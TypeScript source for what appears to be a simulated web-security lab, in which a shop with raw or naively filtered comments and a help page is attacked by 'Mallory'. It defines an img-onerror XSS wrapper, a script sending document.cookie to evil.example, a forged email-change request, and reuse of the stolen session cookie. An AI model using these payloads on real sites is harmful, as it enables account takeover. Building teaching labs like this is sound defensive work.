import type { Document } from '../../browser/document';
import type { PageScript } from '../../browser/page';
import type { Chosen } from '../choices';
import { authenticate, logIn, loginPage, passwords, wrongPassword } from '../kit/accounts';
import { Duel } from '../kit/duel';
import { withCookie } from '../kit/program';
import { SessionStore } from '../kit/sessions';
import { type Call, page, redirect, refuse, Site, setCookie } from '../kit/site';
import type { Setup } from '../world';

export const SHOP = 'https://shop.example';

export const inImage = (code: string): string => `<img src="x" onerror="${code}">`;

export const choices = {
  output: {
    kind: 'one',
    label: 'How a comment gets into the page',
    start: 'raw',
    values: {
      raw: 'comment',
      filtered: "comment.replaceAll('<script>', '')",
      escaped: 'escapeHtml(comment)',
    },
  },
  httpOnly: { kind: 'toggle', label: 'HttpOnly', start: 'off', off: '', on: 'httpOnly: true, ' },
  reauthenticate: {
    kind: 'toggle',
    label: 'The password before the address changes',
    start: 'off',
    off: '// whoever is logged in may change it',
    on: 'if (!checkPassword(user, req.body.password)) return res.sendStatus(403);',
  },
} as const;

/** What of a text a browser would run, of the two scripts that this lab knows. */
function scriptsIn(html: string): PageScript[] {
  const code = /<script>([^<]*)<\/script>/.exec(html)?.[1] ?? /onerror="([^"]*)"/.exec(html)?.[1] ?? '';
  if (code.includes('document.cookie') && code.includes('evil.example')) return [steal];
  return code.includes('fetch(') && code.includes('/email') ? [ride] : [];
}

export const steal: PageScript = (document) =>
  document.image(`https://evil.example/?${encodeURIComponent(document.cookie)}`);
export const ride: PageScript = async (document) => {
  const headers = [['Content-Type', 'application/x-www-form-urlencoded']] as const;
  await document.fetch('/email', { method: 'POST', headers, body: 'email=mallory@evil.example' });
};

export class Shop extends Duel {
  readonly sessions = new SessionStore();
  readonly emails = new Map([['ana', 'ana@mail.example']]);
  comments: string[] = ['The tent is waterproof.'];
  /** What the injected script sent to Mallory. */
  loot: string | undefined;
  /** Mallory opened Ana's account with it. */
  inside = false;

  constructor(
    private readonly chosen: Chosen<typeof choices>,
    setup: Setup,
  ) {
    super(setup);
    const shop = new Site('shop', ['shop.example'])
      .on('GET /login', () => loginPage())
      .on('POST /login', (call) => this.login(call))
      .on('GET /tent', () => this.tent())
      .on('POST /comments', (call) => {
        this.comments = [...this.comments, call.field('comment') ?? ''];
        return redirect('/tent');
      })
      // Someone else's code, and as full of holes: the learner cannot mend it.
      .on('GET /help', (call) =>
        page('Help', `Nothing found for ${call.query('q') ?? ''}`, {
          scripts: scriptsIn(call.query('q') ?? ''),
        }),
      )
      .on('GET /account', (call) => this.account(call))
      .on('POST /email', (call) => this.changeEmail(call));
    this.addServer(shop, 'shop.example', 'honest');
    const evil = new Site('evil', ['evil.example']).on('GET /', (call) => {
      this.loot = decodeURIComponent(call.url.search.slice(1));
      this.note(
        this.loot === ''
          ? 'The script sent me nothing: it could read no cookie.'
          : `The script sent me ${this.loot}`,
      );
      return page('', '');
    });
    this.addServer(evil, 'evil.example', 'attacker');
    this.addTable('shop', 'Accounts', ['user', 'e-mail'], () => [...this.emails]);
  }

  private login(call: Call) {
    const user = authenticate(call);
    if (user === undefined) return wrongPassword();
    const id = this.sessions.create(this.randomHex(128), user, this.clock.now());
    const httpOnly = this.chosen.httpOnly ? '; HttpOnly' : '';
    return setCookie(redirect('/account'), `sid=${id}; Path=/; Secure${httpOnly}; SameSite=Lax`);
  }

  private tent() {
    const { output } = this.chosen;
    const html = this.comments.map((comment) =>
      output === 'filtered' ? comment.replaceAll('<script>', '') : comment,
    );
    return page('Tent', `What customers say: ${html.join(' | ')}`, {
      forms: [{ id: 'comment', action: '/comments', method: 'POST', fields: { comment: '' } }],
      scripts: output === 'escaped' ? [] : html.flatMap(scriptsIn),
    });
  }

  private account(call: Call) {
    const user = this.sessions.user(call.cookie('sid'));
    if (user === undefined) return refuse(401, 'Please log in.');
    const fields = { email: '', ...(this.chosen.reauthenticate ? { password: '' } : {}) };
    return page('Account', `Account of ${user}, e-mail ${this.emails.get(user) ?? ''}`, {
      forms: [{ id: 'email', action: '/email', method: 'POST', fields }],
    });
  }

  private changeEmail(call: Call) {
    const user = this.sessions.user(call.cookie('sid'));
    if (user === undefined) return refuse(401, 'Please log in.');
    if (this.chosen.reauthenticate && call.field('password') !== passwords[user])
      return refuse(403, 'Please give your password as well.');
    this.emails.set(user, call.field('email') ?? '');
    return redirect('/account');
  }

  async comment(text: string): Promise<void> {
    await this.mallory.post(`${SHOP}/comments`, { comment: text });
  }

  /** Mallory uses the cookie that the script sent. */
  async useLoot(): Promise<boolean> {
    const id = /sid=([0-9a-f]+)/.exec(this.loot ?? '')?.[1] ?? '';
    const { body } = await this.mallory.send({ url: `${SHOP}/account`, headers: withCookie('sid', id) });
    const hit = body.startsWith('Account of ana');
    if (hit) this.inside = true;
    return hit;
  }

  get ridden(): boolean {
    return this.emails.get('ana') === 'mallory@evil.example';
  }

  /** Ana, logged in, sees a page. */
  async anaSees(path: string): Promise<Document> {
    await logIn(this.ana, SHOP, 'ana');
    return this.ana.visit(`${SHOP}${path}`);
  }
}
